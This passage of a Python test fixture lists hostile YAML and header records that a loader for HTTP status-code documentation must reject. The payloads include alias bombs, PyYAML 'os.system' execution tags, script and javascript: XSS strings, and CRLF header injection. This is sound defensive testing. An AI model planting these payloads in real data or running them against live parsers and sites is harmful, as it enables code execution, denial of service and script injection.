best_practices:
  - Do the right thing.
common_mistakes:
  - Doing the wrong thing.
faq:
  - question: What is 404?
    answer: A status code.
  - question: When is 404 sent?
    answer: When it fits.
properties:
  cacheable_by_default: false
  retry: not-needed
  body: expected
specification:
  document: RFC 9110
  section: 15.5.5
  status: registered
keywords:
  - code 404
"""


def _with(old: str, new: str) -> str:
    """BASE_RECORD with one exact line (or run of lines) replaced."""
    assert old in BASE_RECORD, old
    return BASE_RECORD.replace(old, new, 1)


def huge_record_text(mb: int) -> str:
    """BASE_RECORD whose ``meaning`` is about ``mb`` MiB of text (80-character lines)."""
    line = "  " + "All work and no play makes a huge record. alert(1) " + "x" * 25 + "\n"
    count = mb * 1024 * 1024 // len(line) + 1
    return _with("meaning: Meaning of 404.\n", "meaning: |\n" + line * count)


_LAUGHS = "".join(
    f"{name}: &{name} [{', '.join([f'*{prev}'] * 9)}]\n"
    for prev, name in zip("abcdefgh", "bcdefghi", strict=True)
)

_DEEP_BLOCK = "".join(" " * depth + "a:\n" for depth in range(1200)) + " " * 1200 + "a: 1\n"

YAML_DOCUMENTS: list[HostileYaml] = [
    HostileYaml(
        "billion-laughs",
        'a: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]\n' + _LAUGHS,
        "9 levels of 9 aliases: under 1 KB, 387 million nodes if aliases are expanded",
    ),
    HostileYaml(
        "billion-laughs-in-field",
        BASE_RECORD
        + "related: [&a [200, 200, 200, 200, 200, 200, 200, 200, 200],"
        + " &b [*a, *a, *a, *a, *a, *a, *a, *a, *a],"
        + " &c [*b, *b, *b, *b, *b, *b, *b, *b, *b],"
        + " &d [*c, *c, *c, *c, *c, *c, *c, *c, *c],"
        + " &e [*d, *d, *d, *d, *d, *d, *d, *d, *d],"
        + " &f [*e, *e, *e, *e, *e, *e, *e, *e, *e],"
        + " &g [*f, *f, *f, *f, *f, *f, *f, *f, *f],"
        + " &h [*g, *g, *g, *g, *g, *g, *g, *g, *g]]\n",
        "an alias bomb inside a valid record's optional field",
    ),
    HostileYaml(
        "recursive-alias-sequence",
        BASE_RECORD + "related: &r [*r]\n",
        "a sequence that contains itself: naive node walking never ends",
    ),
    HostileYaml(
        "recursive-alias-mapping",
        BASE_RECORD + "constants: &c {python: *c}\n",
        "a mapping that contains itself",
    ),
    HostileYaml(
        "recursive-alias-document",
        "&top\ncode: 404\nself: *top\n",
        "the whole document refers to itself",
    ),
    HostileYaml(
        "deep-flow-sequence",
        BASE_RECORD + "related: " + "[" * 10_000 + "\n",
        "10 000 unclosed '[': recursion in the composer",
    ),
    HostileYaml(
        "deep-flow-sequence-closed",
        BASE_RECORD + "related: " + "[" * 10_000 + "]" * 10_000 + "\n",
        "10 000 nested, balanced lists",
    ),
    HostileYaml(
        "deep-flow-mapping",
        BASE_RECORD + "constants: " + "{a: " * 5_000 + "1" + "}" * 5_000 + "\n",
        "5 000 nested flow mappings",
    ),
    HostileYaml(
        "deep-block-sequence",
        BASE_RECORD + "related:\n  " + "- " * 5_000 + "200\n",
        "5 000 nested block sequences on one line",
    ),
    HostileYaml(
        "deep-block-mapping",
        BASE_RECORD + "headers:\n" + "".join(" " + line + "\n" for line in _DEEP_BLOCK.split("\n")),
        "1 200 nested block mappings, one more space each",
    ),
    HostileYaml(
        "merge-key-alias",
        "base: &base {code: 404, phrase: Not Found}\n<<: *base\nmeaning: x\n",
        "a merge key pulling fields in from an alias",
    ),
    HostileYaml(
        "merge-key-in-record",
        BASE_RECORD + "<<: {meaning: '<script>alert(1)</script>', related: [404]}\n",
        "a merge key that would set fields after duplicate detection",
    ),
    HostileYaml(
        "merge-key-list",
        BASE_RECORD + "constants:\n  <<: [&p {python: HTTPStatus.NOT_FOUND}, *p]\n",
        "a merge key with a list of (repeated) mappings",
    ),
    HostileYaml(
        "python-object-apply",
        BASE_RECORD + 'related: !!python/object/apply:os.system ["echo alert(1)"]\n',
        "arbitrary code execution tag on a sequence (tags on collections are easy to miss)",
    ),
    HostileYaml(
        "python-object-apply-scalar",
        _with("meaning: Meaning of 404.\n", "meaning: !!python/object/apply:os.system alert\n"),
        "python/object/apply on a scalar",
    ),
    HostileYaml(
        "python-object-new",
        BASE_RECORD + "constants: !!python/object/new:os.system {args: [echo alert(1)]}\n",
        "python/object/new on a mapping",
    ),
    HostileYaml(
        "python-name",
        _with("meaning: Meaning of 404.\n", "meaning: !!python/name:os.system ''\n"),
        "python/name: imports a module attribute",
    ),
    HostileYaml(
        "tag-directive-python",
        "%TAG !p! tag:yaml.org,2002:python/\n---\n"
        + _with("meaning: Meaning of 404.\n", "meaning: !p!object/apply:os.system [alert]\n"),
        "a %TAG directive hides the python/ prefix from a grep for '!!python'",
    ),
    HostileYaml(
        "tag-binary",
        _with(
            "meaning: Meaning of 404.\n",
            "meaning: !!binary PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\n",
        ),
        "!!binary: bytes (of <script>alert(1)</script>) where text is expected",
    ),
    HostileYaml(
        "tag-set",
        BASE_RECORD + "related: !!set {200: null}\n",
        "!!set: a mapping node typed as a set",
    ),
    HostileYaml(
        "tag-custom-scalar",
        _with("meaning: Meaning of 404.\n", "meaning: !foo alert(1)\n"),
        "an unknown local tag on a scalar",
    ),
    HostileYaml(
        "tag-custom-sequence",
        _with("  - code 404\n", "  - !foo code 404\n") + "related: !foo [200]\n",
        "unknown tags on a sequence and on an item",
    ),
    HostileYaml(
        "tag-str-on-number",
        _with("code: 404\n", "code: !!str 404\n"),
        "an explicit !!str where an integer is expected",
    ),
    HostileYaml(
        "impossible-date",
        _with(
            "  status: registered\n",
            "  status: temporary\n  registered: 2026-02-30\n  expires: 2027-01-01\n",
        ),
        "February 30th: the YAML timestamp resolver raises ValueError, not a YAML error",
    ),
    HostileYaml(
        "impossible-month",
        _with(
            "  status: registered\n",
            "  status: temporary\n  registered: 2026-01-01\n  expires: 2026-13-45\n",
        ),
        "month 13, day 45: still matches the timestamp pattern",
    ),
    HostileYaml(
        "impossible-date-in-list",
        _with("  - code 404\n", "  - 2026-02-30\n"),
        "an impossible date where text is expected",
    ),
    HostileYaml(
        "impossible-date-key",
        BASE_RECORD + "2026-02-30: x\n",
        "an impossible date as a key",
    ),
    HostileYaml(
        "int-digit-limit",
        _with("code: 404\n", "code: " + "9" * 5_000 + "\n"),
        "an integer longer than Python's 4300-digit conversion limit: ValueError",
    ),
    HostileYaml(
        "yaml11-int-forms",
        _with("code: 404\n", "code: 0x194\n"),
        "YAML 1.1 hex (also 0o624, 6:44 sexagesimal, 4_04): 404 in disguise",
    ),
    HostileYaml(
        "yaml11-sexagesimal",
        _with("code: 404\n", "code: 6:44\n"),
        "base-60 integer: 6:44 is 404 in YAML 1.1",
    ),
    HostileYaml(
        "float-code",
        _with("code: 404\n", "code: .inf\n"),
        "infinity where an integer is expected",
    ),
    HostileYaml(
        "two-documents",
        BASE_RECORD + "---\n" + BASE_RECORD.replace("Not Found", "Pwned alert(1)"),
        "a stream of two documents: which one wins?",
    ),
    HostileYaml(
        "document-end-then-garbage",
        BASE_RECORD + "...\n--- !!python/object/apply:os.system [alert]\n",
        "document end marker, then a second, tagged document",
    ),
    HostileYaml(
        "nul-byte",
        _with("meaning: Meaning of 404.\n", "meaning: Meaning\x00 of 404.\n"),
        "a raw NUL: PyYAML's reader raises ReaderError, which is not a MarkedYAMLError",
    ),
    HostileYaml(
        "nul-escaped",
        _with("meaning: Meaning of 404.\n", 'meaning: "Meaning\\0 of\\e[2J 404 alert(1)."\n'),
        "NUL and ESC via double-quoted escapes: pass the reader, land in the text",
    ),
    HostileYaml(
        "lone-surrogate-escaped",
        _with("meaning: Meaning of 404.\n", 'meaning: "Meaning \\ud800 of 404."\n'),
        "a lone surrogate via an escape: valid str, cannot be written as UTF-8",
    ),
    HostileYaml(
        "control-chars-raw",
        _with("meaning: Meaning of 404.\n", "meaning: Meaning \x1b[2J\x07 of 404.\n"),
        "raw ESC and BEL in the file",
    ),
    HostileYaml(
        "utf16-bom",
        "",
        "UTF-16 with a BOM: not UTF-8 at byte 0",
        data=("\ufeff" + BASE_RECORD).encode("utf-16-le"),
    ),
    HostileYaml(
        "utf32",
        "",
        "UTF-32 (big-endian, with a BOM)",
        data=BASE_RECORD.encode("utf-32"),
    ),
    HostileYaml(
        "utf8-bom",
        "",
        "UTF-8 with a BOM (accepting it is fine, but line numbers must stay right)",
        data=b"\xef\xbb\xbf" + BASE_RECORD.encode("utf-8"),
    ),
    HostileYaml(
        "invalid-utf8-latin1",
        "",
        "a Latin-1 byte on line 5",
        data=BASE_RECORD.encode("utf-8").replace(b"Meaning of", b"Caf\xe9 of"),
    ),
    HostileYaml(
        "invalid-utf8-overlong",
        "",
        "an overlong encoding of '<' (0xC0 0xBC)",
        data=BASE_RECORD.encode("utf-8").replace(b"Meaning of", b"\xc0\xbcscript\xc0\xbe of"),
    ),
    HostileYaml(
        "invalid-utf8-surrogate",
        "",
        "a UTF-8-encoded surrogate (CESU-8)",
        data=BASE_RECORD.encode("utf-8").replace(b"Meaning of", b"\xed\xa0\x80 of"),
    ),
    HostileYaml(
        "invalid-utf8-truncated",
        "",
        "a multi-byte sequence cut off at the end of the file",
        data=BASE_RECORD.encode("utf-8") + b"# \xe2\x82",
    ),
    HostileYaml(
        "long-line",
        _with("meaning: Meaning of 404.\n", "meaning: " + "A" * 500_000 + "\n"),
        "one 500 000-character line",
    ),
    HostileYaml(
        "long-key",
        BASE_RECORD + "k" * 2_000 + ": x\n",
        "a plain key longer than YAML's 1024-character limit for simple keys",
    ),
    HostileYaml(
        "key-is-list",
        BASE_RECORD + "? [meaning, phrase]\n: alert(1)\n",
        "a complex key that is a sequence",
    ),
    HostileYaml(
        "key-is-mapping",
        BASE_RECORD + "? {meaning: x}\n: alert(1)\n",
        "a complex key that is a mapping",
    ),
    HostileYaml(
        "key-int",
        BASE_RECORD + "1: alert(1)\n",
        "an integer key",
    ),
    HostileYaml(
        "key-bool",
        BASE_RECORD + "yes: alert(1)\n",
        "'yes' is a boolean key in YAML 1.1",
    ),
    HostileYaml(
        "key-null",
        BASE_RECORD + "~: alert(1)\n",
        "a null key",
    ),
    HostileYaml(
        "key-nan-twice",
        BASE_RECORD + ".nan: a\n.nan: b\n",
        "NaN is never equal to itself: only identity (one shared nan object) shows the duplicate",
    ),
    HostileYaml(
        "duplicate-key",
        BASE_RECORD + "meaning: <script>alert(1)</script>\n",
        "a second 'meaning': plain PyYAML keeps the last one silently",
    ),
    HostileYaml(
        "duplicate-key-quoted",
        BASE_RECORD + '"meaning": alert(1)\n',
        "the same key written quoted",
    ),
    HostileYaml(
        "duplicate-key-different-spelling",
        BASE_RECORD + "related: [200]\n0x1: a\n1: b\n",
        "two spellings of the integer 1",
    ),
    HostileYaml(
        "duplicate-key-nested",
        _with("    answer: A status code.\n", "    answer: A status code.\n    answer: alert(1)\n"),
        "a duplicate key inside a list item",
    ),
    HostileYaml(
        "tab-indentation",
        _with("  - Do the right thing.\n", "\t- Do the right thing.\n"),
        "a tab used for indentation",
    ),
    HostileYaml(
        "comments-only",
        "# just a comment\n# alert(1)\n",
        "a file with no document at all",
    ),
    HostileYaml(
        "explicit-empty-document",
        "---\n...\n",
        "an explicitly empty document",
    ),
    HostileYaml(
        "scalar-document",
        "<script>alert(1)</script>\n",
        "a document that is one scalar",
    ),
    HostileYaml(
        "anchor-reuse-across-fields",
        _with("meaning: Meaning of 404.\n", "meaning: &m Meaning of 404.\n") + "related: *m\n",
        "an alias of a text value used where a list of codes is expected",
    ),
]


# --------------------------------------------------------------------------- header records


@dataclass(frozen=True)
class HostileHeader:
    """A header record (``data/headers/<stem>.yaml``) changed by ``changes`` from a valid
    Retry-After record; the loader must refuse it at ``field``."""

    id: str
    changes: dict
    field: str
    note: str
    stem: str = "retry-after"


_VENDOR_DOC = {"document": "Vendor documentation", "url": "https://vendor.example.com/docs"}

HEADER_RECORDS: list[HostileHeader] = [
    HostileHeader(
        "crlf-in-name",
        {"name": "Retry-After\r\nSet-Cookie: session=stolen"},
        "name",
        "a field name that splits into a second header line",
    ),
    HostileHeader(
        "script-in-name",
        {"name": "<script>alert(1)</script>"},
        "name",
        "markup where a field name belongs",
    ),
    HostileHeader(
        "name-of-another-field",
        {"name": "Set-Cookie"},
        "name",
        "retry-after.yaml that describes another field, so its page would lie",
    ),
    HostileHeader(
        "reserved-page-name",
        {"name": "Index"},
        "name",
        "a record named like the headers index page, to replace it",
        stem="index",
    ),
    HostileHeader(
        "javascript-definition-url",
        {"defined_in": {"document": "Vendor documentation", "url": "javascript:alert(1)"}},
        "defined_in.url",
        "a script URL as the link to the definition",
    ),
    HostileHeader(
        "vendor-doc-without-url",
        {"defined_in": {"document": "Vendor documentation"}},
        "defined_in.url",
        "a vendor definition the reader cannot follow",
    ),
    HostileHeader(
        "abnf-from-no-rfc",
        {"defined_in": _VENDOR_DOC, "syntax": "Retry-After = 1*DIGIT"},
        "syntax",
        "ABNF presented as an RFC's that comes from elsewhere",
    ),
    HostileHeader(
        "example-smuggles-a-field",
        {"example": "Retry-After: 120\nSet-Cookie: session=stolen"},
        "example",
        "an example that slips another field onto the page",
    ),
    HostileHeader(
        "example-html",
        {"example": '<img src=x onerror="alert(1)">'},
        "example",
        "markup instead of a field line",
    ),
    HostileHeader(
        "summary-script",
        {"summary": "Wait <script>alert(1)</script>"},
        "summary",
        "markup in the text that becomes the title and meta description",
    ),
    HostileHeader(
        "summary-bidi",
        {"summary": "Wait \u202e)1(trela"},
        "summary",
        "a right-to-left override that disguises the summary",
    ),
    HostileHeader(
        "meaning-iframe",
        {"meaning": '<iframe src="javascript:alert(1)"></iframe>'},
        "meaning",
        "raw HTML in prose",
    ),
    HostileHeader(
        "meaning-javascript-link",
        {"meaning": "See [the spec](javascript:alert(1))."},
        "meaning",
        "a script URL in a Markdown link",
    ),
    HostileHeader(
        "notes-second-h1",
        {"notes": ["Wait.\n\n# A second page title"]},
        "notes",
        "a heading in a note that would give the page a second h1",
    ),
    HostileHeader(
        "unknown-field",
        {"onload": "alert(1)"},
        "onload",
        "a field the model does not have",
    ),
]
